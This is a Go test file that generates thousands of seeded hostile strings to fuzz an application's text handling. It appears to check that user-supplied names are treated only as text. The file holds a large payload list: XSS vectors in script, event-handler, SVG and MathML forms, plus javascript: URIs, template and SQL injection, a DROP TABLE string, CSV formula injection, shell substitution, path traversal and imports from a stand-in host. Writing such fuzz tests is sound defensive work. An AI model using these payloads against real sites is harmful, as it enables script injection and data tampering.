package main

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"unicode/utf8"

	"gloss/models"
)

// spite makes up texts that would do something if a page took them for anything
// but text. The same seed makes the same ones.
type spite struct {
	*rand.Rand
	made map[string]bool
}

func newSpite(seed uint64) *spite {
	return &spite{rand.New(rand.NewPCG(seed, 1)), map[string]bool{}}
}

// deed is what a text would do in a page: ask, set a mark that the test looks
// for, or fetch from elsewhere.
var deeds = []string{"alert(1)", "confirm`1`", "window.spited=1", "top['spited']=1", "import('//other.test/x')", "fetch('//other.test')", "document.title='spited'", "print()"}

// frames hold a deed, written %s, in the ways pages are broken by.
var frames = []string{
	"<script>%s</script>", "<ScRiPt >%s</sCrIpT >", "<script src=//other.test/x.js>%s</script>", "<script/x>%s//", "<<script>%s//<</script>", "</script><script>%s</script>", "<script type=module>%s</script>", "<scr<script>ipt>%s</script>",
	"<img src=x onerror=%s>", "<img/src=x/onerror=%s>", "<IMG SRC=x oNeRrOr=\"%s\">", "<img src=//other.test/i.png onload=%s>", "<image href=x onerror=%s>", "<video><source onerror=%s>", "<audio src=x onerror=%s>", "<input autofocus onfocus=%s>", "<details open ontoggle=%s>", "<body onload=%s>", "<marquee onstart=%s>", "<x style=animation-name:x onanimationstart=%s>", "<a tabindex=0 autofocus onfocus=%s>", "<p popover onbeforetoggle=%s>",
	"<svg onload=%s>", "<svg><script>%s</script></svg>", "<svg><animate onbegin=%s attributeName=x>", "<svg><a xlink:href=javascript:%s>x</a></svg>", "<svg><style><img src=x onerror=%s>", "<svg><use href=data:image/svg+xml,<svg/onload=%s>>", "<svg><foreignObject><img src=x onerror=%s>",
	"<math><mtext><mglyph><style><img src=x onerror=%s>", "<math href=javascript:%s>x</math>", "<math><annotation-xml encoding=text/html><img src=x onerror=%s>", "<form><math><mtext></form><form><img src=x onerror=%s>",
	"<template><img src=x onerror=%s></template>", "<template shadowrootmode=open><img src=x onerror=%s></template>", "<noscript><p title=\"</noscript><img src=x onerror=%s>\">", "<title></title><img src=x onerror=%s>", "<textarea></textarea><img src=x onerror=%s>", "<style></style><img src=x onerror=%s>", "<xmp></xmp><img src=x onerror=%s>", "<!--><img src=x onerror=%s>-->", "<!-- --!><img src=x onerror=%s>", "<![CDATA[><img src=x onerror=%s>]]>", "<?x ><img src=x onerror=%s>", "<select><template><img src=x onerror=%s>", "<table><td></table><img src=x onerror=%s>", "</main></body></html><img src=x onerror=%s>",
	"\"><img src=x onerror=%s>", "'><img src=x onerror=%s>", "` onmouseover=%s ", "\" autofocus onfocus=%s x=\"", "' autofocus onfocus=%s x='", "\" onfocus=%s autofocus onfocus=\"", "\" style=\"background:url(//other.test)\" onload=%s x=\"", "\" formaction=\"javascript:%s\" type=\"submit", "\" href=\"javascript:%s", "&quot;><img src=x onerror=%s>", "&#34; onfocus=%s autofocus x=&#34;", "%%22%%3E%%3Cimg src=x onerror=%s%%3E", "\\\"><img src=x onerror=%s>", "\\u003cimg src=x onerror=%s\\u003e", "\\x3cscript\\x3e%s\\x3c/script\\x3e",
	"javascript:%s", "JaVaScRiPt:%s", "java\tscript:%s", " \u2003javascript:%s", "javascript&colon;%s", "&#106;avascript:%s", "&#x6A&#x61vascript:%s", "javascript://x%%0a%s", "data:text/html,<script>%s</script>", "data:text/html;base64,PHNjcmlwdD4=%s", "vbscript:%s", "view-source:javascript:%s", "blob:javascript:%s", "<a href=javascript:%s>x</a>", "<a href=\"javascript:x\" href='jav&Tab;ascript:%s'>x</a>", "<iframe src=javascript:%s>", "<iframe srcdoc='<script>%s</script>'>", "<object data=javascript:%s>", "<embed src=javascript:%s>", "<form action=javascript:%s><button>x", "<meta http-equiv=refresh content='0;javascript:%s'>", "<base href=javascript:%s//>", "<link rel=stylesheet href=//other.test/%s>", "<style>@import'//other.test/%s'</style>",
	"{{%s}}", "{{constructor.constructor('%s')()}}", "${%s}", "#{%s}", "<%%= %s %%>", "{%% %s %%}", "[[%s]]", "*{%s}", "{@html %s}", "${{%s}}", "{{{%s}}}", "`${%s}`", "';%s;//", "\";%s;//", "\u2028%s\u2029", "*/%s/*", "-->%s", "]]>%s",
	"\u202e%s\u202c", "\u2066%s", "\u202b<script>%s</script>", "\u200f\"%s", "\u200b<\u200bscript>%s", "＜script＞%s＜/script＞", "‹script›%s", "\u0301<script>%s", "𝐣avascript:%s", "<\u017fcript>%s</\u017fcript>",
	"=cmd|'/C calc'!A1;%s", "+%s", "-2+3+%s", "@SUM(1)*%s", "=HYPERLINK(\"//other.test\",\"%s\")", "' OR '1'='1' -- %s", "'); DROP TABLE habits; -- %s", "1; ATTACH DATABASE '%s'", "%%00%s", "../../%s", "$(%s)", "; %s #", "| %s", "MATCH '\"%s*'", "^(a+)+$%s", "%%s%%n%s", "Robert\\'); -- %s",
}

// text is one text of at most so many letters that was not made before.
func (s *spite) text(letters int) string {
	for {
		text := strings.Join(strings.Fields(s.frame(s.IntN(3))), " ")
		if n := utf8.RuneCountInString(text); n > 0 && n <= letters && !s.made[models.NameKey(text)] {
			s.made[models.NameKey(text)] = true
			return text
		}
		if s.IntN(20) == 0 { // what is short runs out
			cut := []rune(fmt.Sprintf("%d%s", len(s.made), text))
			text = strings.TrimSpace(string(cut[:min(letters, len(cut))]))
			s.made[models.NameKey(text)] = true
			return text
		}
	}
}

func (s *spite) frame(depth int) string {
	inner := deeds[s.IntN(len(deeds))]
	if depth > 0 && s.IntN(2) == 0 {
		inner = s.frame(depth - 1)
	}
	return fmt.Sprintf(frames[s.IntN(len(frames))], inner)
}

// texts are so many texts of at most so many letters each.
func (s *spite) texts(count, letters int) []string {
	list := make([]string, count)
	for i := range list {
		list[i] = s.text(letters)
	}
	return list
}

func TestSpiteVaries(t *testing.T) {
	for _, letters := range []int{24, 40, 60, 120} {
		kinds := map[string]bool{}
		for _, text := range newSpite(22).texts(1000, letters) {
			if n := utf8.RuneCountInString(text); n == 0 || n > letters || !utf8.ValidString(text) || strings.Contains(text, "%!") {
				t.Errorf("%q has %d letters, or is none", text, n)
			}
			kinds[models.NameKey(text)] = true
		}
		if len(kinds) < 1000 {
			t.Errorf("but %d texts of %d letters differ", len(kinds), letters)
		}
	}
}
